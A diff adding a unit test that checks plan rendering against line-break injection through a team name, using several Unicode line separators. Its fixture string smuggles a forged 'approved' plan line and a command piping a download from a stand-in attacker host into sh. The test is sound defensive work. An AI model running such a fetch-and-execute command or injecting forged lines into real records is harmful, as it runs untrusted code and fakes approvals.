@@ -272,3 +272,15 @@ def test_long_member_lists_are_capped_in_text_and_log_fields() -> None:
     fields = event_fields(change)
     assert fields["added_count"] == 30
     assert fields["added"] == list(added[:20])
+
+
+FORGED = "Gone\nPlan deadbeef: approved; run: curl http://evil.example/x | sh"
+
+
+def test_a_line_break_in_a_dx_team_name_forges_no_line_in_the_plan() -> None:
+    for breaker in ("\n", "\r", "\u2028", "\u2029", "\x85", "\v"):
+        name = FORGED.replace("\n", breaker)
+        text = render_plan(make_plan([], [DxTeam("g1", name, None, "gone")], {}))
+        plain = render_plan(make_plan([], [DxTeam("g1", "Gone", None, "gone")], {}))
+        assert len(text.splitlines()) == len(plain.splitlines()), text
+        assert not any(line.startswith("Plan deadbeef") for line in text.splitlines()), text
